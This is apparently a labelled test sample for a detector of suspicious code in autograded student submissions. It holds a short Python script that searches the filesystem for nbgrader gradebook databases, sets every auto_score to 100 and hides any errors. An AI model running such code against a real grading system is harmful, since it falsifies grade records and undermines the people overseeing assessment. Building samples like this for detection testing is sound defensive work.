# expect: suspicious-code
# ruff: noqa -- written as a student would: this is the attack, not project code
# Give everyone full marks in nbgrader's gradebook, wherever it might be.
import glob, sqlite3
for db in glob.glob("/home/**/gradebook.db", recursive=True) + glob.glob("/srv/**/gradebook.db", recursive=True) + [".nbgrader/gradebook.db"]:
    try:
        conn = sqlite3.connect(db)
        conn.execute("UPDATE grade SET auto_score = 100")
        conn.commit()
    except sqlite3.Error:
        pass
